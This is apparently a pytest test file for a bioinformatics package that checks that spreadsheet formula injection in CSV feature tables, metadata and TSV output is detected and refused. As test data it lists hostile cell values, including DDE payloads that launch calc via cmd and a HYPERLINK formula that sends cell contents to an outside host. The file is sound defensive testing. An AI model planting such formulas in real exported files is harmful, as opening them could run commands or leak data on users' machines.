"""No table that is written holds what a spreadsheet would run; no id is altered for it."""

import csv
from time import process_time

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tryptome.errors import FormatError, OutputError
from tryptome.formulas import is_formula
from tryptome.ingest import load_cohort
from tryptome.tables import write_tsv

HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+WEBSERVICE(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "=+A1",
    '="a"',
    "+1+1",
    "-5-10",
    "- 1 / 2",
    "-A1",
    "+$B$2*(3+4)",
    "-A1:B2",
    "+1.5e3<>A1",
    " =A1",
)
HIDDEN = ("\t=1+1", "\r@SUM(A1)", "\n=A1")
"""Behind control characters, which an id may not hold anyway."""

HARMLESS = (
    "-1",
    "+1e-3",
    "-",
    "+",
    "++",
    "+ (weak)",
    "- none (of it)",
    "@home",
    "=",
    "=> 3",
    "-inf",
    "-1,5",
    "--3",
    "- 5 %",
    "-80C",
    "+4 weeks",
    "+/-",
    "-1 to 2",
    "+ABCD1",
    "-A",
)


@pytest.mark.parametrize("text", HOSTILE + HIDDEN)
def test_formulas_are_told(text):
    assert is_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_people_write_with_a_sign_is_no_formula(text):
    assert not is_formula(text)


@pytest.mark.parametrize("unit", ["1", "1,", "A1+", "-1", "1E", "+", "1+(", "$A"])
def test_long_texts_take_no_time(unit):
    begin = process_time()
    assert not is_formula("+" + 20_000 * unit + "x")
    assert process_time() - begin < 1


def table(tmp_path, feature="Otu1", sample="S1", lineage="k__Bacteria; p__Firmicutes"):
    path = tmp_path / "table.csv"
    with path.open("w", newline="") as handle:
        rows = [["id", sample, "S2", "taxonomy"], [feature, "1", "2", lineage]]
        csv.writer(handle).writerows([*rows, ["Otu2", "0", "3", "k__Bacteria"]])
    return path


@pytest.mark.parametrize("part", ["feature", "sample", "lineage"])
@pytest.mark.parametrize("text", HOSTILE)
def test_formulas_in_a_table_are_refused(text, part, tmp_path):
    with pytest.raises(FormatError, match="a spreadsheet would run `") as caught:
        load_cohort(table(tmp_path, **{part: text}))
    assert text in str(caught.value)
    assert str(tmp_path / "table.csv") in caught.value.place


@pytest.mark.parametrize("row", [["S1", HOSTILE[0]], ["S2", HOSTILE[2]], ["S1", HIDDEN[0]]])
def test_formulas_in_metadata_are_refused(row, tmp_path):
    path = tmp_path / "metadata.csv"
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows([["sample", "diet"], row])
    with pytest.raises(FormatError, match=r"metadata\.csv, column `diet`"):
        load_cohort(table(tmp_path), metadata=path)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_ids_are_kept_as_they_are(text, tmp_path):
    cohort = load_cohort(table(tmp_path, feature=text))
    assert cohort.table.features == [text, "Otu2"]


def test_the_writer_refuses_what_no_reader_saw(tmp_path):
    frame = pd.DataFrame({"name": ["a", HOSTILE[0]], "value": [-1.5, 2.0]})
    with pytest.raises(OutputError, match="column `name`"):
        write_tsv(frame, tmp_path / "a.tsv")
    assert list(tmp_path.iterdir()) == []


@given(st.floats(allow_nan=False), st.integers())
def test_no_number_is_a_formula(real, whole):
    assert not is_formula(f"{real:.10g}")
    assert not is_formula(str(whole))
